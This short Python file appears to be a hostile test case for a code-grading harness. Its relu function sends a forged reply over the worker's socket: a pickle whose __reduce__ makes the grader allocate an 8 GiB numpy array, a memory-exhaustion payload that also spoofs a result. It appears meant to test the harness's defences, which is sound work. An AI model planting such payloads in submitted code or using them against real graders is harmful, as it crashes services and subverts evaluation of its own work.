"""Hostile (forged reply): relu writes its own 100-byte reply straight to the worker's socket, a pickle that
REDUCEs numpy.ndarray((2**30,), "f8"): 8 GiB allocated in the grader if it calls what the pickle names."""

import pickle

import numpy as np
from _forged import send_reply

ELEMENTS = 2**30


class Forged:
    def __reduce__(self):
        return (np.ndarray, ((ELEMENTS,), "f8"))


def relu(z):
    payload = pickle.dumps(("result", Forged(), {}), protocol=5)
    send_reply(payload)
    return np.maximum(z, 0)
